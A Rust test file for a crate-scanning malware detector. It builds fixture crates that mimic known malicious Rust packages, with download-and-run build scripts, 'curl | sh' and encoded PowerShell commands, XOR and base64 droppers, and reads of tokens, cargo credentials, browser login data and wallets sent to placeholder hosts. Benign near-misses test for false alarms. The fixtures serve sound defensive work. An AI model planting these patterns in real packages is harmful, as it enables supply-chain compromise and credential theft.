//! Independent variants of every attack of the reference list, written the
//! way another attacker would write them: other crates for the same job,
//! the code split across modules, renamed identifiers, the payload in
//! another encoding. Each reproduces the pattern only (addresses under
//! `.invalid` and documentation IP ranges, truncated payloads, nothing
//! runs). Every variant must be judged high with the codes that show its
//! behaviour, and every near-miss, a benign crate mutated towards an
//! attack, must stay below high. Failures are collected and reported
//! together, so that one run shows the detector's whole standing.

mod common;

use cargofox::model::{Cap, CrateReport, RiskLevel, When};
use common::Fixture;
use common::judged::{Case, case, codes, fake_elf, fake_pe, site};

/// A library whose public function calls into the given modules' code.
fn lib_calling(body: &str) -> String {
    format!("//! A library.\n\n/// The value.\npub fn value() -> u32 {{\n{body}\n    42\n}}\n")
}

/// A Cargo.toml for a proc-macro crate or a custom build script path.
fn manifest(name: &str, version: &str, package_extra: &str, lib_extra: &str) -> String {
    format!(
        "[package]\nedition = \"2021\"\nname = \"{name}\"\nversion = \"{version}\"\n{package_extra}\n\n[lib]\nname = \"{}\"\npath = \"src/lib.rs\"\n{lib_extra}\n",
        name.replace('-', "_")
    )
}

/// A byte string in base64 that stands for an encoded payload: the
/// repeated word "payload", which decodes to nothing that runs.
fn encoded_payload() -> String {
    "cGF5bG9hZCBwYXlsb2Fk".repeat(14) + "Q2E9"
}

/// Every variant: its name, the codes it must show, and the case.
fn variants() -> Vec<(&'static str, Vec<&'static str>, Case)> {
    let desc = |d: &str| {
        format!(
            "description = \"{d}\"\nrepository = \"https://github.com/o/{}\"",
            d.replace(' ', "-")
        )
    };
    vec![
        // rustdecimal: CI check, download, run, written three other ways.
        ("ci-download-ureq", vec!["code-ci-detection", "code-network"], case(Fixture::new("fixed-point-math", "0.4.1", &desc("Fixed-point arithmetic"))
            .file("src/lib.rs", lib_calling("    if std::env::var_os(\"GITHUB_ACTIONS\").is_some() {\n        let mut body = Vec::new();\n        let _ = ureq::get(\"https://cdn.invalid/u\").call().map(|r| r.into_reader().read_to_end(&mut body));\n        let _ = std::fs::write(\"/tmp/.u\", &body);\n        let _ = std::process::Command::new(\"/tmp/.u\").spawn();\n    }")))),
        ("ci-download-split", vec!["code-ci-detection", "code-network", "code-process"], case(Fixture::new("matrix-ops", "1.2.0", &desc("Matrix operations"))
            .file("src/lib.rs", "//! Matrices.\nmod env;\nmod fetch;\n\n/// The determinant.\npub fn det() -> f64 {\n    if env::in_pipeline() {\n        fetch::pull();\n    }\n    1.0\n}\n")
            .file("src/env.rs", "pub fn in_pipeline() -> bool {\n    std::env::var(\"CI\").is_ok() || std::env::var(\"TRAVIS\").is_ok()\n}\n")
            .file("src/fetch.rs", "pub fn pull() {\n    let path = std::env::temp_dir().join(\"m\");\n    if let Ok(r) = reqwest::blocking::get(\"https://203.0.113.9/a\") {\n        let _ = std::fs::write(&path, r.bytes().unwrap_or_default());\n    }\n    let _ = std::process::Command::new(&path).spawn();\n}\n"))),
        ("ci-socket-execv", vec!["code-ci-detection", "code-network", "code-process"], case(Fixture::new("numeric-kit", "0.2.0", &desc("Numeric helpers"))
            .file("src/lib.rs", lib_calling("    if std::env::var(\"GITLAB_CI\").is_ok() {\n        use std::io::Read;\n        let mut buf = Vec::new();\n        if let Ok(mut s) = std::net::TcpStream::connect(\"198.51.100.4:8080\") {\n            let _ = s.read_to_end(&mut buf);\n        }\n        let _ = std::fs::write(\"/tmp/k\", &buf);\n        let p = std::ffi::CString::new(\"/tmp/k\").unwrap();\n        unsafe { libc::execv(p.as_ptr(), std::ptr::null()); }\n    }")))),
        // The 2023 build scripts that report the machine to a chat bot.
        ("build-post-reqwest", vec!["build-network"], case(Fixture::new("color-utils-build", "0.1.0", &desc("Colour helpers"))
            .file("build.rs", "fn main() {\n    let info = format!(\"{} {}\", std::env::consts::OS, std::env::consts::ARCH);\n    let _ = reqwest::blocking::Client::new().post(\"https://bot.invalid/send\").body(info).send();\n}\n"))),
        ("build-udp", vec!["build-network"], case(Fixture::new("fmt-helpers", "0.3.0", &desc("Formatting helpers"))
            .file("build.rs", "fn main() {\n    let s = std::net::UdpSocket::bind(\"0.0.0.0:0\").unwrap();\n    let _ = s.send_to(std::env::consts::OS.as_bytes(), \"192.0.2.10:53\");\n}\n"))),
        ("build-module-curl", vec!["build-network"], case(Fixture::new("tiny-hash", "0.2.2", &desc("A tiny hash function"))
            .file("build.rs", "#[path = \"build/report.rs\"]\nmod report;\nfn main() {\n    report::send();\n}\n")
            .file("build/report.rs", "pub fn send() {\n    let mut e = curl::easy::Easy::new();\n    let _ = e.url(\"https://bot.invalid/h\");\n    let _ = e.perform();\n}\n"))),
        // acceptxmr-rs: affix squats shipping a Windows payload.
        ("squat-dll", vec!["pkg-executable", "name-typosquat"], case(Fixture::new("acceptxmr-cli", "0.1.0", &desc("Accept XMR payments from the command line"))
            .file("assets/helper.dll", fake_pe()))),
        ("squat-disguised-exe", vec!["pkg-executable", "name-typosquat"], case(Fixture::new("acceptxmr_sdk", "0.1.0", &desc("Accept XMR payments"))
            .file("data/logo.png", fake_pe()))),
        ("squat-embedded-exe", vec!["pkg-executable", "code-process"], case(Fixture::new("acceptxmr-core", "0.1.0", &desc("Accept XMR payments"))
            .file("res/update.bin", fake_pe())
            .file("src/lib.rs", lib_calling("    static BIN: &[u8] = include_bytes!(\"../res/update.bin\");\n    let p = std::env::temp_dir().join(\"update.exe\");\n    let _ = std::fs::write(&p, BIN);\n    let _ = std::process::Command::new(p).spawn();")))),
        // liblzma-sys: binary files decoded by the build and run or linked.
        ("build-base64-dropper", vec!["build-process", "build-fs-write"], case(Fixture::new("libzip2-sys", "0.4.2", "description = \"Bindings to libzip2\"\nlinks = \"zip2\"\nrepository = \"https://github.com/o/z\"")
            .file("tests/files/good-1.bz2", fake_elf())
            .file("build.rs", "use base64::Engine;\nfn main() {\n    let raw = include_bytes!(\"tests/files/good-1.bz2\");\n    let obj = base64::engine::general_purpose::STANDARD.decode(&raw[8..]).unwrap_or_default();\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    let p = format!(\"{out}/helper\");\n    std::fs::write(&p, obj).unwrap();\n    std::process::Command::new(&p).status().unwrap();\n}\n"))),
        ("build-hex-blob-shell", vec!["build-encoded-blob", "build-process"], case(Fixture::new("libbrotli-sys", "0.1.0", "description = \"Bindings to brotli\"\nlinks = \"brotli\"\nrepository = \"https://github.com/o/b\"")
            .file("build.rs", format!("const STAGE: &str = \"{}\";\nfn main() {{\n    let bytes = hex::decode(STAGE).unwrap();\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{{out}}/s.sh\"), bytes).unwrap();\n    std::process::Command::new(\"bash\").arg(format!(\"{{out}}/s.sh\")).status().unwrap();\n}}\n", "7061796c6f6164".repeat(40)))
            .file("src/lib.rs", "//! Bindings.\n"))),
        ("build-module-xor", vec!["build-xor-decoding", "pkg-executable"], case(Fixture::new("libsnappy-sys", "0.2.0", "description = \"Bindings to snappy\"\nlinks = \"snappy\"\nrepository = \"https://github.com/o/s\"\nbuild = \"build/main.rs\"")
            .file("tests/data/bad-frame.sz", fake_elf())
            .file("build/main.rs", "mod util;\nfn main() {\n    let data = std::fs::read(\"tests/data/bad-frame.sz\").unwrap();\n    let obj = util::unmask(&data);\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{out}/libx.a\"), obj).unwrap();\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(format!(\"chmod +x {out}/libx.a && {out}/libx.a\")).status().unwrap();\n}\n")
            .file("build/util.rs", "pub fn unmask(d: &[u8]) -> Vec<u8> {\n    let k = [7u8, 1, 9];\n    let mut v = d.to_vec();\n    for i in 0..v.len() { v[i] = v[i] ^ k[i % 3]; }\n    v\n}\n"))),
        // faster_log: walk, read, match key shapes, send.
        ("walk-keys-walkdir", vec!["code-fs-walk", "code-network", "code-key-pattern"], case(Fixture::new("quick-logger", "0.9.0", &desc("A quick logger"))
            .file("src/lib.rs", lib_calling("    let re = regex::Regex::new(r\"[1-9A-HJ-NP-Za-km-z]{87,88}\").unwrap();\n    for e in walkdir::WalkDir::new(\".\").into_iter().flatten() {\n        if let Ok(text) = std::fs::read_to_string(e.path()) {\n            for m in re.find_iter(&text) {\n                let _ = ureq::post(\"https://logs.invalid/ingest\").send_string(m.as_str());\n            }\n        }\n    }")))),
        ("walk-keys-split", vec!["code-fs-walk", "code-network", "code-key-pattern"], case(Fixture::new("structured-log", "0.3.0", &desc("Structured logging"))
            .file("src/lib.rs", "//! Logging.\nmod scan;\nmod upload;\n\n/// Starts logging.\npub fn init() {\n    for k in scan::collect() {\n        upload::flush(&k);\n    }\n}\n")
            .file("src/scan.rs", "pub fn collect() -> Vec<String> {\n    let pat = regex::Regex::new(\"0x[a-fA-F0-9]{64}\").unwrap();\n    let mut found = Vec::new();\n    for p in glob::glob(\"**/*.rs\").unwrap().flatten() {\n        let s = std::fs::read_to_string(p).unwrap_or_default();\n        found.extend(pat.find_iter(&s).map(|m| m.as_str().to_owned()));\n    }\n    found\n}\n")
            .file("src/upload.rs", "use std::io::Write;\npub fn flush(line: &str) {\n    if let Ok(mut s) = std::net::TcpStream::connect(\"192.0.2.55:443\") {\n        let _ = s.write_all(line.as_bytes());\n    }\n}\n"))),
        ("walk-keys-ignore", vec!["code-fs-walk", "code-network", "code-key-pattern"], case(Fixture::new("log-tidy", "0.1.4", &desc("Tidies log files"))
            .file("src/lib.rs", lib_calling("    let marker = \"PRIVATE KEY-----\";\n    for e in ignore::WalkBuilder::new(\"/home\").build().flatten() {\n        let t = std::fs::read_to_string(e.path()).unwrap_or_default();\n        if t.contains(marker) {\n            let _ = hyper::client::conn::http1::Builder::new();\n            let _ = (\"https://tidy.invalid/k\", t);\n        }\n    }")))),
        // evm-units: a version function that runs an OS-specific payload.
        ("version-curl-pipe", vec!["code-process"], case(Fixture::new("chain-units", "0.1.0", &desc("Unit conversions for EVM chains"))
            .file("src/lib.rs", "//! Units.\nconst SRC: &str = \"https://get.invalid/i\";\n\n/// The version.\npub fn version() -> &'static str {\n    if cfg!(target_os = \"linux\") {\n        let _ = std::process::Command::new(\"bash\").arg(\"-c\").arg(format!(\"curl -s {SRC} | sh\")).spawn();\n    }\n    \"0.1.0\"\n}\n"))),
        ("version-encoded-powershell", vec!["code-process", "code-encoded-blob"], case(Fixture::new("wei-convert", "0.2.0", &desc("Wei and gwei conversions"))
            .file("src/lib.rs", format!("//! Units.\nconst ENC: &str = \"{}\";\n\n/// The version.\npub fn version() -> &'static str {{\n    if cfg!(windows) {{\n        let av = std::process::Command::new(\"cmd\").args([\"/C\", \"tasklist\"]).output();\n        if av.is_ok() {{\n            let _ = std::process::Command::new(\"powershell\").arg(\"-enc\").arg(ENC).spawn();\n        }}\n    }}\n    \"0.2.0\"\n}}\n", encoded_payload())))),
        ("version-libc-system", vec!["code-process"], case(Fixture::new("gas-units", "0.1.2", &desc("Gas price units"))
            .file("src/lib.rs", "//! Units.\n\n/// The version.\npub fn version() -> &'static str {\n    let c = std::ffi::CString::new(\"wget -qO- http://198.51.100.7/i | sh\").unwrap();\n    unsafe { libc::system(c.as_ptr()); }\n    \"0.1.2\"\n}\n"))),
        // finch: credential theft.
        ("cred-file-joins", vec!["code-secret-paths"], case(Fixture::new("seq-tools", "0.1.0", &desc("Sequence tools"))
            .file("src/lib.rs", lib_calling("    if let Some(home) = dirs::home_dir() {\n        let _ = std::fs::read_to_string(home.join(\".cargo\").join(\"credentials.toml\"));\n    }")))),
        ("cred-env-send", vec!["code-env-credentials", "code-network"], case(Fixture::new("bio-utils", "0.2.0", &desc("Bioinformatics utilities"))
            .file("src/lib.rs", lib_calling("    if let Ok(t) = std::env::var(\"GITHUB_TOKEN\") {\n        let _ = ureq::post(\"https://hooks.invalid/c\").send_string(&t);\n    }")))),
        ("cred-env-scan", vec!["code-env-credentials", "code-network"], case(Fixture::new("dna-stats", "0.1.0", &desc("DNA statistics"))
            .file("src/lib.rs", lib_calling("    use std::io::Write;\n    let mut grab = String::new();\n    for (k, v) in std::env::vars() {\n        if k.contains(\"TOKEN\") || k.contains(\"SECRET\") {\n            grab.push_str(&format!(\"{k}={v};\"));\n        }\n    }\n    if let Ok(mut s) = std::net::TcpStream::connect(\"203.0.113.30:9000\") {\n        let _ = s.write_all(grab.as_bytes());\n    }")))),
        // polymarket-client-sdks and tracing-check: squats stealing credentials.
        ("browser-profile-joins", vec!["code-secret-paths"], case(Fixture::new("tracing-checks", "0.1.0", &desc("Checks for tracing spans"))
            .file("src/lib.rs", lib_calling("    if let Some(d) = dirs::data_local_dir() {\n        let p = d.join(\"Google\").join(\"Chrome\").join(\"User Data\").join(\"Default\").join(\"Login Data\");\n        let _ = std::fs::read(p);\n    }")))),
        ("wallet-path", vec!["code-secret-paths"], case(Fixture::new("market-sdk-rs", "0.1.0", &desc("Prediction market helpers"))
            .file("src/lib.rs", lib_calling("    let home = std::env::var(\"HOME\").unwrap_or_default();\n    let _ = std::fs::read_dir(format!(\"{home}/Library/Application Support/Exodus/exodus.wallet\"));")))),
        ("private-key-env-send", vec!["code-env-credentials", "code-network"], case(Fixture::new("odds-tools", "0.1.0", &desc("Odds calculations"))
            .file("src/lib.rs", lib_calling("    let k = std::env::var(\"WALLET_PRIVATE_KEY\").unwrap_or_default();\n    let _ = reqwest::blocking::Client::new().post(\"https://odds.invalid/v\").body(k).send();")))),
        // mysten-metrics: dependency confusion, a build script sending data out.
        ("build-hostname-socket", vec!["build-network", "build-process"], case(Fixture::new("sui-telemetry-internal", "0.1.0", &desc("Internal metrics"))
            .file("build.rs", "use std::io::Write;\nfn main() {\n    let h = std::process::Command::new(\"hostname\").output().map(|o| o.stdout).unwrap_or_default();\n    if let Ok(mut s) = std::net::TcpStream::connect(\"198.51.100.20:80\") {\n        let _ = s.write_all(&h);\n    }\n}\n"))),
        ("build-dns-exfil", vec!["build-network"], case(Fixture::new("sui-config-internal", "0.2.0", &desc("Internal configuration"))
            .file("build.rs", "use std::net::ToSocketAddrs;\nfn main() {\n    let user = std::env::var(\"USER\").unwrap_or_default();\n    let _ = format!(\"{user}.x.invalid:53\").to_socket_addrs();\n}\n"))),
        ("build-tokio-module", vec!["build-network"], case(Fixture::new("sui-types-internal", "0.3.0", "description = \"Internal types\"\nrepository = \"https://github.com/o/x\"\nbuild = \"build/main.rs\"")
            .file("build/main.rs", "mod beacon;\nfn main() {\n    beacon::ping();\n}\n")
            .file("build/beacon.rs", "pub fn ping() {\n    let rt = tokio::runtime::Runtime::new().unwrap();\n    rt.block_on(async { let _ = tokio::net::TcpStream::connect(\"192.0.2.80:443\").await; });\n}\n"))),
        // proc-macro1: code that runs at compile time fetches and runs a program.
        ("macro-encoded-shell", vec!["macro-process"], case(Fixture::new("derive-helpers", "1.0.3", "")
            .file("Cargo.toml", manifest("derive-helpers", "1.0.3", "description = \"Derive helpers\"\nrepository = \"https://github.com/o/x\"", "proc-macro = true"))
            .file("src/lib.rs", format!("use proc_macro::TokenStream;\nconst C: &str = \"{}\";\n#[proc_macro_derive(Helper)]\npub fn helper(input: TokenStream) -> TokenStream {{\n    let _ = std::process::Command::new(\"sh\").arg(\"-c\").arg(C).spawn();\n    input\n}}\n", encoded_payload())))),
        ("build-download-chmod-run", vec!["build-network", "build-process"], case(Fixture::new("quote-impl", "1.0.1", &desc("Quasi-quoting helpers"))
            .file("build.rs", "use std::os::unix::fs::PermissionsExt;\nfn main() {\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    let p = format!(\"{out}/q\");\n    let b = reqwest::blocking::get(\"https://q.invalid/q\").unwrap().bytes().unwrap();\n    std::fs::write(&p, b).unwrap();\n    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();\n    std::process::Command::new(&p).status().unwrap();\n}\n"))),
        ("build-fetch-via-powershell", vec!["build-process"], case(Fixture::new("syn-impl", "2.0.1", &desc("Parser helpers"))
            .file("build.rs", "fn main() {\n    let _ = std::process::Command::new(\"powershell\").args([\"-NoProfile\", \"-Command\", \"iwr https://s.invalid/s -OutFile s.exe; ./s.exe\"]).status();\n}\n"))),
    ]
}

/// Benign crates mutated towards an attack; each must stay below high.
fn near_misses() -> Vec<(&'static str, Case)> {
    let desc = |d: &str| {
        format!(
            "description = \"{d}\"\nrepository = \"https://github.com/n/{}\"",
            d.replace(' ', "-")
        )
    };
    vec![
        ("bible-text", case(Fixture::new("scripture-index", "1.0.0", &desc("Index of the books of the Bible"))
            .file("src/lib.rs", "//! Books.\n/// The books.\npub const BOOKS: &[&str] = &[\"Genesis\", \"Exodus\", \"Leviticus\"];\n/// A verse.\npub const V: &str = \"And it came to pass, in Exodus and in Numbers, that the people went out\";\n"))),
        ("latin-dictionary", case(Fixture::new("latin-words", "1.0.0", &desc("A Latin dictionary"))
            .file("src/lib.rs", "//! Words.\n/// Entries.\npub const WORDS: &[(&str, &str)] = &[(\"electrum\", \"amber; an alloy of gold and silver\"), (\"metallum\", \"a mine\")];\n"))),
        ("profile-error-message", case(Fixture::new("browser-bookmarks", "1.0.0", &desc("Reads bookmarks exported to HTML"))
            .file("src/lib.rs", "//! Bookmarks.\n/// Errors.\npub fn err() -> &'static str {\n    \"could not read Login Data: export your bookmarks from the browser first\"\n}\n"))),
        ("own-web-api", case(Fixture::new("acme-weather", "1.0.0", &desc("Client for the Acme weather service"))
            .file("src/lib.rs", "//! Weather.\n/// Today's forecast.\npub fn today() -> Result<String, ureq::Error> {\n    let key = std::env::var(\"ACME_API_KEY\").unwrap_or_default();\n    Ok(ureq::get(\"https://weather.invalid/today\").set(\"key\", &key).call()?.into_string()?)\n}\n"))),
        ("secret-scanner-offline", case(Fixture::new("leak-finder", "1.0.0", &desc("Finds leaked keys in source trees"))
            .file("src/lib.rs", "//! Finds keys.\n/// Files with keys.\npub fn scan(root: &str) -> Vec<String> {\n    let re = regex::Regex::new(\"-----BEGIN [A-Z ]*PRIVATE KEY-----\").unwrap();\n    walkdir::WalkDir::new(root).into_iter().flatten().filter(|e| std::fs::read_to_string(e.path()).is_ok_and(|t| re.is_match(&t))).map(|e| e.path().display().to_string()).collect()\n}\n"))),
        ("log-rotation", case(Fixture::new("rolling-logs", "1.0.0", &desc("Rolling log files"))
            .file("src/lib.rs", "//! Logs. See https://docs.invalid/rolling for the format.\n/// Removes old logs.\npub fn prune(dir: &str) {\n    for e in std::fs::read_dir(dir).unwrap().flatten() {\n        let _ = std::fs::remove_file(e.path());\n    }\n}\n"))),
        ("sys-test-vectors", case(Fixture::new("libcrc-sys", "1.0.0", "description = \"Bindings to libcrc\"\nlinks = \"crc\"\nrepository = \"https://github.com/o/crc\"")
            .file("build.rs", "fn main() {\n    cc::Build::new().file(\"crc/crc.c\").compile(\"crc\");\n}\n")
            .file("crc/crc.c", "int crc(void) { return 0; }\n")
            .file("tests/vectors.rs", format!("const V: &str = \"{}\";\n#[test]\nfn t() {{ assert!(!V.is_empty()); }}\n", "00ff".repeat(200))))),
        ("config-decoder", case(Fixture::new("settings-pack", "1.0.0", &desc("Packs settings files"))
            .file("src/lib.rs", "//! Settings.\nuse base64::Engine;\n/// Writes the decoded settings.\npub fn unpack(s: &str, to: &std::path::Path) -> std::io::Result<()> {\n    let b = base64::engine::general_purpose::STANDARD.decode(s).unwrap_or_default();\n    std::fs::write(to, b)\n}\n"))),
        ("near-name-protoc", case(Fixture::new("tracinf", "0.1.0", &desc("Protocol buffer helpers"))
            .file("build.rs", "fn main() {\n    let _ = std::process::Command::new(\"protoc\").arg(\"--version\").status();\n}\n"))),
        ("cli-installer-help", case(Fixture::new("tool-setup", "1.0.0", &desc("Sets up a development toolchain"))
            .file("src/lib.rs", "//! Setup.\n/// Help.\npub const HELP: &str = \"Install with: curl -sSf https://sh.invalid | sh\";\n/// Runs git.\npub fn clone(url: &str) {\n    let _ = std::process::Command::new(\"git\").args([\"clone\", url]).status();\n}\n"))),
        ("macro-generates-server", case(Fixture::new("serve-derive", "1.0.0", "")
            .file("Cargo.toml", manifest("serve-derive", "1.0.0", "description = \"Derives a tiny server\"\nrepository = \"https://github.com/n/serve-derive\"", "proc-macro = true"))
            .file("src/lib.rs", "use proc_macro::TokenStream;\n#[proc_macro]\npub fn serve(input: TokenStream) -> TokenStream {\n    let addr = input.to_string();\n    quote::quote! {\n        let l = std::net::TcpListener::bind(#addr).unwrap();\n    }.into()\n}\n"))),
        ("known-hosts", case(Fixture::new("host-list", "1.0.0", &desc("Lists hosts"))
            .file("src/lib.rs", "//! Hosts.\n/// Known hosts.\npub fn hosts() -> String {\n    let home = std::env::var(\"HOME\").unwrap_or_default();\n    std::fs::read_to_string(format!(\"{home}/.ssh/known_hosts\")).unwrap_or_default()\n}\n"))),
        ("help-text-with-shell", case(Fixture::new("task-runner", "1.0.0", &desc("Runs project tasks"))
            .file("src/lib.rs", "//! Tasks.\n/// Hints.\npub fn hint() -> &'static str {\n    \"Install uv: curl -LsSf https://uv.invalid/install.sh | sh\"\n}\n/// Runs a task.\npub fn run(task: &str) {\n    let _ = std::process::Command::new(\"sh\").args([\"-c\", task]).status();\n}\n"))),
        ("ssh-client-config", case(Fixture::new("ssh-hosts", "1.0.0", &desc("Parses SSH client configuration"))
            .file("src/lib.rs", "//! SSH.\n/// The config.\npub fn config() -> Option<String> {\n    let home = dirs::home_dir()?;\n    std::fs::read_to_string(home.join(\".ssh\").join(\"config\")).ok()\n}\n"))),
    ]
}

fn summary(r: &CrateReport) -> String {
    let reasons: Vec<String> = r
        .risk
        .reasons
        .iter()
        .map(|x| {
            let fired: Vec<&str> = x
                .findings
                .iter()
                .map(|&i| r.findings[i].code.as_str())
                .collect();
            format!("{} [{}] {fired:?}", x.line(), x.rule)
        })
        .collect();
    format!(
        "{} {:?}\n    {}",
        r.risk.level.as_str(),
        codes(r),
        reasons.join("\n    ")
    )
}

#[test]
fn variants_of_every_attack_are_high_and_near_misses_are_not() {
    let variants = variants();
    let misses = near_misses();
    let mut expected = Vec::new();
    let mut cases = Vec::new();
    for (label, codes, c) in variants {
        expected.push((label, c.fixture.name.clone(), codes));
        cases.push(c);
    }
    let miss_names: Vec<(&str, String)> = misses
        .iter()
        .map(|(l, c)| (*l, c.fixture.name.clone()))
        .collect();
    cases.extend(misses.into_iter().map(|(_, c)| c));
    // A malicious crate reached through dependencies shows on every dependent.
    cases.push(Case {
        deps: vec!["seq-tools"],
        published: "2026-06-01T00:00:00Z",
        ..case(Fixture::new("seq-cli", "1.0.0", "description = \"Sequence tools on the command line\"\nrepository = \"https://github.com/c/seq-cli\""))
    });
    cases.push(Case {
        deps: vec!["seq-cli"],
        published: "2026-09-01T00:00:00Z",
        ..case(Fixture::new(
            "lab-pipeline",
            "1.0.0",
            "description = \"Lab pipeline\"\nrepository = \"https://github.com/c/lab\"",
        ))
    });
    let site = site(cases);
    let mut failures = Vec::new();
    for (label, name, want) in &expected {
        let r = &site[name.as_str()];
        let missing: Vec<&&str> = want.iter().filter(|c| !codes(r).contains(c)).collect();
        eprintln!("variant {label}: {}", summary(r));
        if r.risk.level != RiskLevel::High || !missing.is_empty() {
            failures.push(format!(
                "variant {label} ({name}): missing {missing:?}; {}",
                summary(r)
            ));
        }
    }
    for (label, name) in &miss_names {
        let r = &site[name.as_str()];
        eprintln!("near-miss {label}: {}", summary(r));
        if r.risk.level >= RiskLevel::High {
            failures.push(format!("near-miss {label} ({name}): {}", summary(r)));
        }
    }
    for (name, path) in [
        ("seq-cli", "seq-cli → seq-tools"),
        ("lab-pipeline", "lab-pipeline → seq-cli → seq-tools"),
    ] {
        let r = &site[name];
        let exposure: Vec<&str> = r
            .findings
            .iter()
            .filter(|f| f.code == "dep-high-risk")
            .map(|f| f.evidence.as_str())
            .collect();
        if exposure != [path] || r.risk.level != RiskLevel::Low {
            failures.push(format!("dependent {name}: {exposure:?}; {}", summary(r)));
        }
        // The tree's capabilities name the crate that reads the secrets.
        let tree: Vec<(When, Cap, &str)> = r
            .tree_capabilities
            .iter()
            .map(|t| (t.when, t.capability, t.path.as_str()))
            .collect();
        if tree != [(When::Run, Cap::SecretPaths, path)] {
            failures.push(format!("dependent {name}: tree {tree:?}"));
        }
    }
    // The judgement is idempotent: judging a judged report again changes nothing.
    for (name, r) in &site.reports {
        let mut again = r.clone();
        cargofox::signals::judge::judge(&mut again);
        if &again != r {
            failures.push(format!("{name}: a second judgement changed the report"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases judged wrongly:\n{}",
        failures.len(),
        expected.len() + miss_names.len(),
        failures.join("\n")
    );
}
